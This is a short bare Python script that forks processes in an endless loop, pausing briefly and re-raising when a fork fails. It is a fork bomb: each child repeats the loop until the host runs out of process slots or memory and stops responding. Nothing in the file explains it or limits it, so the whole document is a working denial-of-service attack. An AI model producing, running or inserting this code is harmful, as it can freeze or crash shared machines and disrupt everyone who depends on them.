import os
import time

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.5)
        raise
